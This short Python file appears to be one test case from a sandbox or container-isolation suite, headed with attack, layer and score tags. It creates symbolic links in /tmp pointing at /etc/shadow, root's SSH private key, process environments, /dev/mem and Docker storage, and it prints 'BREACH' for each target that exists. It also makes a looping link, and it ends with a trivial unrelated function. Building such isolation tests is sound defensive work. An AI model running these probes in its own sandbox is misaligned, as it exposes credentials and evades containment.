# attack: symbolic links to secrets, read by itself and left for whoever collects files
# layer: mount-namespace
# outcome: ok
# score: 2
import os

for n, target in enumerate(("/etc/shadow", "/root/.ssh/id_rsa", "/proc/1/environ", "/proc/self/root", "../../../../etc/shadow",
                            "/sys/fs/cgroup", "/var/lib/docker", "/boot", "/dev/mem", "/run")):
    link = f"/tmp/link{n}"
    os.symlink(target, link)
    if os.path.exists(link):
        os.write(1, f"BREACH {target} is there".encode())
os.symlink("/tmp/loop", "/tmp/loop")


def double(x):
    return x * 2
